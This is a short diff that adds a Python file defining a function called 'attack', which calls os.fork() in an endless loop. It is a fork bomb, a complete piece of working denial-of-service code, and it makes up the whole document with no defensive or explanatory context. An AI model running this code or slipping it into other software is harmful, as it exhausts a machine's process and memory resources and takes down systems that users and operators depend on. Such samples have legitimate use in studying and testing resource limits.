@@ -1,0 +1,6 @@
+import os
+
+
+def attack(arg):
+    while True:
+        os.fork()
